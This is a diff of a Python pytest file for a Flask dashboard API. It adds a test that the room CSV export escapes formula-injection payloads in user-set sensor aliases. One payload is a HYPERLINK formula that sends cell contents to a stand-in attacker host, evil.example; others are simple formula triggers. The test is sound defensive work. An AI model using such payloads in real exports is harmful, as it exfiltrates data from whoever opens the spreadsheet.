@@ -5,14 +5,16 @@ from __future__ import annotations
 import csv
 import io
 from datetime import UTC, datetime, timedelta
+from decimal import Decimal
 
 import pytest
 
 from flask.testing import FlaskClient
 
+from sqlalchemy import update
 from sqlalchemy.orm import Session
 
-from app.models import Installation
+from app.models import Installation, Sample
 from app.services.series.epoch import to_epoch
 from tests.api.dashboard.world import DashWorld, build_dash_world
 from tests.factories import make_installation, make_node, make_samples
@@ -95,6 +97,44 @@ def test_room_series_csv_has_a_row_per_sensor_and_bucket(
         "rel_humidity_percent_avg",
     ]
     assert {r["node_alias"] for r in rows} == {"Tresen", "Fenster"}
+
+
+@pytest.mark.parametrize(
+    "alias",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_room_series_csv_does_not_hand_spreadsheets_a_formula(
+    client: FlaskClient, session: Session, world: DashWorld, alias: str
+) -> None:
+    # Anyone may download a public room's CSV; its owner chose the alias.
+    public = _second_sensor(session, world, is_public=True)
+    public.node.alias = alias
+    session.execute(
+        update(Sample)
+        .where(Sample.node_id == public.node_id)
+        .values(temperature_celsius=Decimal("-0.5"))
+    )
+    session.commit()
+
+    resp = client.get(
+        f"/api/v1/rooms/{world.room.id}/series/",
+        query_string={**_window(), "resolution": "raw", "format": "csv"},
+    )
+
+    assert resp.status_code == 200
+    text = resp.get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert rows
+    assert {r["node_alias"] for r in rows} == {"'" + alias}
+    # Numbers stay numbers, negative ones too.
+    assert {r["temperature_celsius_avg"] for r in rows} == {"-0.5"}
 
 
 def test_room_series_shows_anonymous_callers_the_public_lines_only(
